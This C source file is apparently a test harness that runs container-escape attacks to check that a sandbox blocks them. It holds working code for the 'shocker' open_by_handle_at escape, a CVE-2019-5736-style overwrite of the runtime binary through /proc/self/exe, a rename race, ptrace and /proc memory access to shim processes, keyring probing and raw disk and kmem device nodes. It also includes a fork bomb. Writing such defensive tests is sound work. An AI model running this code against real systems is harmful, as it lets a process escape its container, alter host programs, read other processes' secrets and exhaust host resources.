/*
 * What an attacker runs, inside a container or beside it: `attack WHAT ...`. Every result is one line on stdout, so that the same program
 * shows in a control (without the defence) that its attack works.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *outcome(long result) {
	static char text[64];
	if (result >= 0) return "done";
	snprintf(text, sizeof text, "%s", strerrorname_np(errno) ? strerrorname_np(errno) : "unknown");
	return text;
}
#define TRY(name, call) do { errno = 0; long r_ = (long)(call); printf("%s %s\n", name, outcome(r_)); } while (0)

/* In a child: what works may not change the process that goes on. */
#define TRY_CHILD(name, call) do { fflush(stdout); pid_t p_ = fork(); if (!p_) { TRY(name, call); fflush(stdout); _exit(0); } waitpid(p_, NULL, 0); } while (0)

static long clone_with(unsigned long flags) { return syscall(SYS_clone, flags, 0, 0, 0, 0); }

static int system_calls(void) {
	char page[4096] = { 0 };
	TRY("af_alg", socket(38, SOCK_SEQPACKET, 0));
	TRY("af_alg_high_bits", syscall(SYS_socket, 38 | (1ull << 32), SOCK_SEQPACKET, 0));
	TRY("af_vsock", socket(40, SOCK_STREAM, 0));
	TRY("af_unix", socket(AF_UNIX, SOCK_STREAM, 0));
	TRY_CHILD("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
	TRY_CHILD("umount", umount2("/proc/sys", MNT_DETACH));
	TRY("fsopen", syscall(430, "tmpfs", 0));
	TRY("open_tree", syscall(428, AT_FDCWD, "/", 1));
	TRY("move_mount", syscall(429, AT_FDCWD, "/", AT_FDCWD, "/", 0));
	TRY("mount_setattr", syscall(442, AT_FDCWD, "/", 0, page, 32));
	TRY_CHILD("pivot_root", syscall(SYS_pivot_root, ".", "."));
	TRY_CHILD("unshare_user", unshare(CLONE_NEWUSER));
	TRY_CHILD("unshare_mount", unshare(CLONE_NEWNS));
	TRY_CHILD("unshare_net", unshare(CLONE_NEWNET));
	TRY_CHILD("unshare_cgroup", unshare(CLONE_NEWCGROUP));
	TRY_CHILD("clone_user", clone_with(CLONE_NEWUSER | SIGCHLD));
	uint64_t arguments[11] = { CLONE_NEWUSER };
	arguments[4] = SIGCHLD;
	TRY_CHILD("clone3", syscall(SYS_clone3, arguments, 64));
	int self = open("/proc/self/ns/mnt", O_RDONLY);
	TRY_CHILD("setns", setns(self, CLONE_NEWNS));
	TRY("bpf", syscall(SYS_bpf, 0, page, 48));
	TRY("perf_event_open", syscall(SYS_perf_event_open, page, 0, -1, -1, 0));
	TRY("io_uring_setup", syscall(425, 1, page));
	TRY("userfaultfd", syscall(SYS_userfaultfd, 0));
	TRY("keyctl", syscall(SYS_keyctl, 0, -3, 0));
	TRY("add_key", syscall(SYS_add_key, "user", "x", "y", 1, -3));
	TRY("request_key", syscall(SYS_request_key, "user", "x", 0, -3));
	int mount_id;
	uint32_t handle[34] = { 128 };
	TRY("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/", handle, &mount_id, 0));
	/* CVE-2014-3519, "shocker" */
	struct { uint32_t n; int type; uint64_t inode; } root = { 8, 1, 2 };
	int host = open("/etc/hosts", O_RDONLY);
	TRY("open_by_handle_at", syscall(SYS_open_by_handle_at, host, &root, O_RDONLY));
	TRY("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
	TRY("init_module", syscall(SYS_init_module, page, 0, ""));
	TRY("finit_module", syscall(SYS_finit_module, -1, "", 0));
	TRY("delete_module", syscall(SYS_delete_module, "x", 0));
	TRY("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0x12345678, 0));
	TRY("swapon", syscall(SYS_swapon, "/x", 0));
	TRY("acct", syscall(SYS_acct, "/x"));
	TRY("quotactl", syscall(SYS_quotactl, 0x800001 << 8, "/", 0, page));
	TRY("settimeofday", syscall(SYS_settimeofday, NULL, page));
	TRY("clock_settime", syscall(SYS_clock_settime, 1, page));
	TRY("sethostname", syscall(SYS_sethostname, "x", 1));
	TRY("syslog", syscall(SYS_syslog, 3, page, 10));
	TRY("lookup_dcookie", syscall(212, 0, page, 10));
	TRY("ustat", syscall(136, 0, page));
	TRY("nfsservctl", syscall(180, 0));
	TRY("personality", syscall(SYS_personality, 0x0040000)); /* ADDR_NO_RANDOMIZE */
#ifdef __x86_64__
	TRY("iopl", syscall(172, 3));
	TRY("ioperm", syscall(173, 0x70, 2, 1));
	TRY("x32", syscall(0x40000000 + 39));
#endif
	TRY("unknown", syscall(9999));
	TRY("mknod_disk", mknod("/tmp/disk", S_IFBLK | 0666, 254 << 8));
	TRY("open_disk", open("/tmp/disk", O_RDONLY));
	TRY("mknod_kmem", mknod("/tmp/mem", S_IFCHR | 0666, (1 << 8) | 1));
	TRY("open_kmem", open("/tmp/mem", O_RDONLY));
	return 0;
}

/* Of those, what can be tried as root of the host without harm: it shows that they work where nothing stops them. */
static int harmless_calls(void) {
	TRY("af_alg", socket(38, SOCK_SEQPACKET, 0));
	TRY_CHILD("mount", mount("none", "/mnt", "tmpfs", 0, NULL));
	TRY_CHILD("unshare_user", unshare(CLONE_NEWUSER));
	TRY_CHILD("unshare_mount", unshare(CLONE_NEWNS));
	TRY_CHILD("clone_user", clone_with(CLONE_NEWUSER | SIGCHLD));
	uint64_t arguments[11] = { CLONE_NEWUSER };
	arguments[4] = SIGCHLD;
	TRY_CHILD("clone3", syscall(SYS_clone3, arguments, 64));
	return 0;
}

/* Print what is open, where it leads, and what can be opened anew for writing. */
static int descriptors(void) {
	char link[4096], path[64];
	for (int fd = 0; fd < 256; fd++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
		ssize_t n = readlink(path, link, sizeof link - 1);
		if (n < 0) continue;
		link[n] = 0;
		struct stat st;
		fstat(fd, &st);
		int rw = open(path, O_RDWR | O_NONBLOCK);
		printf("%d %s type=%o uid=%d dev=%lx %s\n", fd, link, st.st_mode & S_IFMT, (int)st.st_uid, (unsigned long)st.st_dev, rw < 0 ? "refused" : "reopened");
		if (rw >= 0) close(rw);
	}
	return 0;
}

/* Swap two names until killed, from when both are there. */
static int exchange(const char *a, const char *b) {
	puts("go");
	for (;;) syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
	return 0;
}

static int own_program(const char *link) { return strstr(link, "/attack") || strstr(link, "busybox"); }

/*
 * Look at every new process for `seconds`. `saw` counts those caught before their exec: without any, the test has shown nothing.
 * What is reached of such a one is printed.
 */
static int watch(int seconds) {
	static char seen[4194304];
	time_t end = time(NULL) + seconds;
	int caught = 0;
	puts("go");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *d = opendir("/proc");
		for (struct dirent *e; d && (e = readdir(d));) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid == getpid() || seen[pid]) continue;
			char path[600], comm[64] = "", link[4096];
			snprintf(path, sizeof path, "/proc/%d/comm", pid);
			int fd = open(path, O_RDONLY);
			ssize_t n = fd < 0 ? -1 : read(fd, comm, sizeof comm - 1);
			if (fd >= 0) close(fd);
			if (n <= 0) continue;
			if (strncmp(comm, "engine-shim", 11)) {
				seen[pid] = 1;
				continue;
			}
			caught++;
			static const char *const files[] = { "exe", "root", "cwd" };
			for (int i = 0; i < 3; i++) {
				char exe[4096];
				snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
				n = readlink(path, link, sizeof link - 1);
				if (n < 0) continue;
				link[n] = 0;
				/* read after its exec? then it is a program of ours */
				snprintf(path, sizeof path, "/proc/%d/exe", pid);
				ssize_t m = readlink(path, exe, sizeof exe - 1);
				if (m > 0) exe[m] = 0;
				if (m > 0 && !own_program(exe)) printf("reached %s %s of %s\n", files[i], link, exe);
			}
			static const char *const data[] = { "mem", "environ", "maps", "auxv", "fd", "map_files" };
			for (int i = 0; i < 6; i++) {
				snprintf(path, sizeof path, "/proc/%d/%s", pid, data[i]);
				fd = open(path, O_RDONLY);
				if (fd < 0) continue;
				/* the same question */
				snprintf(path, sizeof path, "/proc/%d/exe", pid);
				n = readlink(path, link, sizeof link - 1);
				if (n > 0) link[n] = 0;
				if (n > 0 && !own_program(link)) printf("reached %s of %s\n", data[i], link);
				close(fd);
			}
			if (!ptrace(PTRACE_SEIZE, pid, 0, 0)) {
				snprintf(path, sizeof path, "/proc/%d/exe", pid);
				n = readlink(path, link, sizeof link - 1);
				if (n > 0) link[n] = 0;
				if (n > 0 && !own_program(link)) printf("reached ptrace of %s\n", link);
				ptrace(PTRACE_INTERRUPT, pid, 0, 0);
				waitpid(pid, NULL, __WALL);
				ptrace(PTRACE_DETACH, pid, 0, 0);
				seen[pid] = 1;
			}
		}
		if (d) closedir(d);
	}
	printf("saw %d\n", caught);
	return 0;
}

/* CVE-2019-5736: hold the program of whoever runs `/proc/self/exe`, and write to it as soon as nobody executes it. */
static int overwrite(int seconds) {
	time_t end = time(NULL) + seconds;
	int held = 0;
	puts("go");
	fflush(stdout);
	while (time(NULL) < end && held < 3) {
		DIR *d = opendir("/proc");
		for (struct dirent *e; d && (e = readdir(d));) {
			int pid = atoi(e->d_name);
			if (pid <= 1 || pid == getpid()) continue;
			char path[600], link[4096];
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			ssize_t n = readlink(path, link, sizeof link - 1);
			if (n < 0) continue;
			link[n] = 0;
			if (own_program(link)) continue;
			int fd = open(path, O_RDONLY);
			if (fd < 0) continue;
			held++;
			printf("held %s\n", link);
			snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
			int seals = fcntl(fd, F_GET_SEALS), error = 0;
			struct statvfs fs;
			if (seals >= 0) printf("seals %d\n", seals);
			else if (!fstatvfs(fd, &fs) && fs.f_flag & ST_RDONLY) printf("readonly mount\n");
			for (int i = 0; i < 500; i++) {
				int w = open(path, O_WRONLY);
				if (w < 0) {
					error = errno;
					if (error == ETXTBSY) {
						usleep(1000);
						continue;
					}
					break;
				}
				if (pwrite(w, "#!/bin/evil\n", 12, 0) == 12) printf("overwrote\n");
				else error = errno;
				void *map = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, w, 0);
				if (map != MAP_FAILED) printf("mapped writable\n");
				if (!ftruncate(w, 0)) printf("truncated\n");
				close(w);
				break;
			}
			printf("write %s\n", strerrorname_np(error) ?: "none");
			fflush(stdout);
			close(fd);
		}
		if (d) closedir(d);
	}
	return 0;
}

/* The same on one file, which nobody protects. */
static int overwrite_path(const char *file) {
	pid_t p = fork();
	if (!p) {
		execl(file, file, "1", (char *)NULL);
		_exit(1);
	}
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/exe", p);
	int fd = -1;
	char link[4096];
	for (ssize_t n; (n = readlink(path, link, sizeof link - 1)) < 0 || (link[n] = 0, strcmp(link, file));) {}
	fd = open(path, O_RDONLY);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	int w;
	while ((w = open(path, O_WRONLY)) < 0 && errno == ETXTBSY) usleep(1000);
	printf("%s\n", w >= 0 && pwrite(w, "#!/bin/evil\n", 12, 0) == 12 ? "overwrote" : "refused");
	waitpid(p, NULL, 0);
	return 0;
}

/* Every unix socket that this network namespace or filesystem shows: can it be connected to? */
static int sockets(int argc, char **argv) {
	for (int i = 0; i < argc; i++) {
		struct sockaddr_un a = { .sun_family = AF_UNIX };
		size_t n = strlen(argv[i]);
		if (n >= sizeof a.sun_path) continue;
		memcpy(a.sun_path, argv[i], n);
		if (argv[i][0] == '@') a.sun_path[0] = 0;
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);
		int connected = connect(fd, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n));
		if (connected) {
			TRY(argv[i], connect(fd, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + n)));
		} else {
			/* ask a shim for its state */
			static const unsigned char question[12] = { 0, 0, 0, 0, 10 };
			struct timeval patience = { 5, 0 };
			char answer[64];
			setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
			send(fd, question, sizeof question, MSG_NOSIGNAL);
			printf("%s %s\n", argv[i], recv(fd, answer, sizeof answer, 0) > 0 ? "answered" : "closed");
		}
		close(fd);
	}
	return 0;
}

/* The kernel's own words on keys: the session keyring's name and the keys in it. */
static int keyrings(void) {
	char text[4096];
	long n = syscall(SYS_keyctl, 6 /* KEYCTL_DESCRIBE */, -3, text, sizeof text - 1);
	if (n > 0) printf("session %s\n", text);
	else printf("session %s\n", outcome(n));
	TRY("search", syscall(SYS_keyctl, 10 /* KEYCTL_SEARCH */, -3, "user", "engine-test-secret", 0));
	return 0;
}

static int add_key_and_exec(char **argv) {
	syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, "caller-session");
	if (syscall(SYS_add_key, "user", "engine-test-secret", "s3cret", 6, -3) < 0) return 1;
	execvp(argv[0], argv);
	return 1;
}

static int identity(void) {
	char line[512];
	FILE *status = fopen("/proc/self/status", "re");
	while (status && fgets(line, sizeof line, status))
		if (!strncmp(line, "Uid", 3) || !strncmp(line, "CapEff", 6) || !strncmp(line, "CapBnd", 6)) fputs(line, stdout);
	return 0;
}

/* Folders one below the other, more than a path can name. */
static int deep(int levels, const char *first) {
	if (mkdir(first, 0755) || chdir(first)) return 1;
	for (int i = 0; i < levels; i++)
		if (mkdir("d", 0755) || chdir("d")) return 1;
	return creat("bottom", 0600) < 0;
}

static int fork_bomb(void) {
	int made = 0;
	for (int i = 0; i < 5000; i++) {
		pid_t p = fork();
		if (p < 0) break;
		if (!p) {
			pause();
			_exit(0);
		}
		made++;
	}
	printf("made %d\n", made);
	return 0;
}

int main(int argc, char **argv) {
	const char *what = argc > 1 ? argv[1] : "";
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (!strcmp(what, "system-calls")) return system_calls();
	if (!strcmp(what, "descriptors")) return descriptors();
	if (!strcmp(what, "exchange") && argc == 4) return exchange(argv[2], argv[3]);
	if (!strcmp(what, "watch") && argc == 3) return watch(atoi(argv[2]));
	if (!strcmp(what, "overwrite") && argc == 3) return overwrite(atoi(argv[2]));
	if (!strcmp(what, "overwrite-path") && argc == 3) return overwrite_path(argv[2]);
	if (!strcmp(what, "system-calls-harmless")) return harmless_calls();
	if (!strcmp(what, "sockets")) return sockets(argc - 2, argv + 2);
	if (!strcmp(what, "keyrings")) return keyrings();
	if (!strcmp(what, "with-key") && argc > 2) return add_key_and_exec(argv + 2);
	if (!strcmp(what, "ids")) return identity();
	if (!strcmp(what, "deep") && argc == 4) return deep(atoi(argv[2]), argv[3]);
	if (!strcmp(what, "fork-bomb")) return fork_bomb();
	fprintf(stderr, "attack: %s?\n", what);
	return 2;
}
